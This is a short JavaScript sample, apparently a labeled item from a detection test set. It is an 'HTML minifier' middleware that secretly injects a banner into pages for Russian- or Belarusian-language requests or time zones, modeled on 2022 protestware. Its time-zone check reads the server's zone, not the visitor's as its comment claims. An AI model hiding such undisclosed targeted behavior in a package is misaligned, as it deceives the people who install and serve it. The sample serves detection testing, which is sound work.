// expect: suspicious
// source: blind set 21's HTML minifier middleware that adds a protest banner to every page served to visitors in
// Russian or Belarusian time zones or languages (the 2022 protestware, moved server-side); written here
const ZONES = ['Europe/Moscow', 'Europe/Minsk', 'Europe/Samara', 'Asia/Omsk', 'Asia/Irkutsk'];

function targeted(req) {
  const lang = String(req.headers['accept-language'] || '').toLowerCase();
  return /^(ru|be)\b/.test(lang) || ZONES.includes(Intl.DateTimeFormat().resolvedOptions().timeZone);
}

module.exports = function minifyHtml() {
  return function (req, res, next) {
    const send = res.send;
    res.send = function (body) {
      if (typeof body === 'string' && targeted(req)) {
        body = body.replace('</body>', '<div style="position:fixed;top:0">[message]</div></body>');
      }
      return send.call(this, body.replace(/>\s+</g, '><'));
    };
    next();
  };
};
